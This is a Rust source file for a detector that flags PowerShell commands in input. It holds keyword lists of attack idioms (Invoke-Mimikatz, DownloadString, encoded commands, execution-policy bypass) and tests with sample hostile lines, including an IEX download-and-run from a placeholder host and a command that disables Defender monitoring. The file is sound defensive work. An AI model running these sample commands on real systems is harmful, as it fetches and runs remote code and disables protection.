//! PowerShell: invocations of `powershell`/`pwsh` with arguments, the download-and-run idioms
//! (`IEX (New-Object Net.WebClient).DownloadString(…)`), encoded commands, .NET type
//! accelerators used by loaders (`[Convert]::FromBase64String`), and cmdlets spelled as an
//! approved verb, `-`, and a noun that attacks use (`Get-ChildItem`, `Invoke-WebRequest`).

use std::sync::LazyLock;

use aho_corasick::AhoCorasick;

use super::Detection;
use super::prefilter::Anchors;
use super::util::{at, automaton, before, found, is_word, skip_ws};

/// Each is an attack on its own, at a word boundary.
const STRONG: &[&str] = &[
    "invoke-expression",
    "invoke-command",
    "invoke-webrequest",
    "invoke-restmethod",
    "invoke-item",
    "invoke-wmimethod",
    "invoke-cimmethod",
    "invoke-shellcode",
    "invoke-mimikatz",
    "downloadstring(",
    "downloadfile(",
    "downloaddata(",
    "net.webclient",
    "system.net.webclient",
    "frombase64string(",
    "[convert]::",
    "[system.convert]::",
    "[reflection.assembly]::",
    "[system.reflection.assembly]::",
    "[system.text.encoding]::",
    "[text.encoding]::",
    "[io.file]::",
    "[system.io.file]::",
    "[diagnostics.process]::",
    "[system.diagnostics.process]::",
    "[runtime.interopservices.marshal]::",
    "[scriptblock]::create",
    "-encodedcommand",
    "-executionpolicy bypass",
    "-exec bypass",
    "-ep bypass",
    "-windowstyle hidden",
    "-w hidden",
    "set-mppreference",
    "add-mppreference",
    "new-object system.net",
    "new-object net.",
    "new-object io.",
    "start-bitstransfer",
];

/// Program names: need arguments that look like PowerShell's.
const PROGRAMS: &[&str] = &[
    "powershell",
    "powershell.exe",
    "pwsh",
    "pwsh.exe",
    "powershell_ise",
];

/// `iex`: the alias of Invoke-Expression, followed by `(`, `$` or a quote.
const IEX: &[&str] = &["iex", "icm", "iwr", "irm"];

/// Approved verbs that attacks use.
const VERBS: &[&str] = &[
    "get",
    "set",
    "new",
    "remove",
    "invoke",
    "start",
    "stop",
    "add",
    "clear",
    "copy",
    "move",
    "out",
    "write",
    "import",
    "export",
    "convertto",
    "convertfrom",
    "select",
    "test",
    "enable",
    "disable",
    "register",
    "expand",
    "compress",
    "rename",
    "resolve",
    "read",
    "send",
];

/// Nouns that make a verb-noun pair a cmdlet rather than an English compound.
const NOUNS: &[&str] = &[
    "childitem",
    "content",
    "item",
    "itemproperty",
    "process",
    "service",
    "wmiobject",
    "ciminstance",
    "object",
    "webrequest",
    "restmethod",
    "expression",
    "command",
    "host",
    "executionpolicy",
    "mppreference",
    "localuser",
    "localgroup",
    "localgroupmember",
    "location",
    "variable",
    "alias",
    "module",
    "acl",
    "eventlog",
    "netfirewallrule",
    "scheduledtask",
    "nettcpconnection",
    "netipaddress",
    "psdrive",
    "pssession",
    "credential",
    "securestring",
    "archive",
    "clipboard",
    "file",
    "string",
    "computer",
    "job",
    "bitstransfer",
    "dnsclientcache",
    "aduser",
    "adcomputer",
    "adgroup",
    "adgroupmember",
    "mailmessage",
    "base64",
    "json",
    "csv",
    "mppreference",
    "winevent",
    "hotfix",
    "psreadlineoption",
    "smbshare",
];

#[derive(Clone, Copy)]
enum What {
    Strong,
    Program,
    Iex,
    Verb,
}

static AC: LazyLock<(AhoCorasick, Vec<What>, Anchors)> = LazyLock::new(|| {
    let mut pats: Vec<String> = Vec::new();
    let mut what = Vec::new();
    for s in STRONG {
        pats.push((*s).to_string());
        what.push(What::Strong);
    }
    for p in PROGRAMS {
        pats.push((*p).to_string());
        what.push(What::Program);
    }
    for i in IEX {
        pats.push((*i).to_string());
        what.push(What::Iex);
    }
    for v in VERBS {
        pats.push(format!("{v}-"));
        what.push(What::Verb);
    }
    let gate = Anchors::new(&gate_patterns());
    let refs: Vec<&str> = pats.iter().map(String::as_str).collect();
    // a fast reject: every detection is one of the automaton's matches
    (automaton(&refs), what, gate)
});

/// The patterns behind the gate: every automaton pattern but the aliases, which are tested
/// apart (three bytes make a poor anchor). The value summary tests the same windows.
pub(super) fn gate_patterns() -> Vec<String> {
    let mut pats: Vec<String> = STRONG.iter().map(|s| (*s).to_string()).collect();
    pats.extend(PROGRAMS.iter().map(|p| (*p).to_string()));
    pats.extend(VERBS.iter().map(|v| format!("{v}-")));
    pats
}

/// Whether `input` carries a PowerShell command.
pub(crate) fn detect(input: &[u8]) -> Option<Detection> {
    let (ac, what, gate) = &*AC;
    if !gate.may_contain(input) && !may_call_alias(input) {
        return None;
    }
    for m in ac.find_iter(input) {
        let (s, e) = (m.start(), m.end());
        let prev = before(input, s);
        if is_word(prev) && input[s] != b'[' && input[s] != b'-' {
            continue;
        }
        let evidence = &input[s..input.len().min(e + 32)];
        let hit = match what[m.pattern().as_usize()] {
            What::Strong => {
                input[s] == b'['
                    || input[s] == b'-'
                    || !is_word(at(input, e))
                    || input[e - 1] == b'('
                    || input[e - 1] == b':'
            }
            What::Program => program_args(input, e),
            What::Iex => {
                let j = skip_ws(input, e);
                !is_word(at(input, e)) && matches!(at(input, j), b'(' | b'$' | b'"' | b'\'' | b'[')
            }
            What::Verb => {
                let noun_len = input[e..].iter().take_while(|&&c| is_word(c)).count();
                let noun = &input[e..e + noun_len];
                at(input, e + noun_len) != b'-'
                    && NOUNS
                        .iter()
                        .any(|n| noun.eq_ignore_ascii_case(n.as_bytes()))
            }
        };
        if hit {
            return Some(found("powershell:command", evidence));
        }
    }
    None
}

/// A fast reject for the aliases ([`IEX`]): one counts only right before (spaces aside) one
/// of `($"'[`, so the three bytes before such a byte and its spaces must spell one.
fn may_call_alias(input: &[u8]) -> bool {
    let alias_before = |i: usize| {
        let mut j = i;
        while j > 0 && matches!(input[j - 1], b' ' | b'\t' | b'\n' | b'\r' | 0x0b | 0x0c) {
            j -= 1;
        }
        j >= 3
            && IEX
                .iter()
                .any(|a| input[j - 3..j].eq_ignore_ascii_case(a.as_bytes()))
    };
    memchr::memchr3_iter(b'(', b'$', b'"', input).any(alias_before)
        || memchr::memchr2_iter(b'\'', b'[', input).any(alias_before)
}

/// `powershell -nop …`, `pwsh -c …`, `powershell C:\…`, `powershell "…"`, `powershell {…}`, or
/// the program alone after a separator.
fn program_args(input: &[u8], e: usize) -> bool {
    if is_word(at(input, e)) && !input[e..].starts_with(b".exe") {
        return false;
    }
    let e = if input[e..].len() >= 4 && input[e..e + 4].eq_ignore_ascii_case(b".exe") {
        e + 4
    } else {
        e
    };
    let j = skip_ws(input, e);
    match at(input, j) {
        b'-' | b'/' => at(input, j + 1).is_ascii_alphabetic(),
        b'"' | b'\'' | b'{' | b'&' | b'$' | b'(' => j > e,
        0 => true,
        c if c.is_ascii_alphabetic() => {
            at(input, j + 1) == b':' && matches!(at(input, j + 2), b'\\' | b'/')
        }
        b';' | b'|' => true,
        _ => false,
    }
}

#[cfg(test)]
mod tests {
    use super::detect;

    fn hit(s: &str) -> bool {
        detect(s.as_bytes()).is_some()
    }

    #[test]
    fn attacks() {
        for s in [
            "powershell -nop -w hidden -c calc",
            "powershell.exe -EncodedCommand SQBFAFgA",
            "pwsh -c Get-Process",
            "cmd=powershell C:\\windows\\system32\\notepad.exe",
            "IEX (New-Object Net.WebClient).DownloadString('http://x/a.ps1')",
            "iex $code",
            "Invoke-Expression $x",
            "Invoke-WebRequest http://example.com/path/file.ps1",
            "Get-ChildItem C:\\",
            "Set-MpPreference -DisableRealtimeMonitoring $true",
            "[Convert]::FromBase64String('AAAA')",
            "[System.Reflection.Assembly]::Load($b)",
            "Start-Process calc.exe",
            "Remove-Item -Recurse C:\\x",
            "x; powershell",
            "-ExecutionPolicy Bypass -File x.ps1",
            "Get-WmiObject Win32_Process",
        ] {
            assert!(hit(s), "{s}");
        }
    }

    #[test]
    fn benign() {
        for s in [
            "I love PowerShell scripting",
            "powershell is great",
            "Set-Cookie: a=b",
            "Get-Together at noon",
            "Out-Of-Office reply",
            "Read-Only mode",
            "Start-Up costs",
            "Add-On store",
            "Remove-Ads purchase",
            "the iex exchange",
            "apex",
            "Set-Top box",
            "Get-Well soon card",
            "Convert units",
            "Hex Invoke",
        ] {
            assert!(!hit(s), "{s}");
        }
    }
}
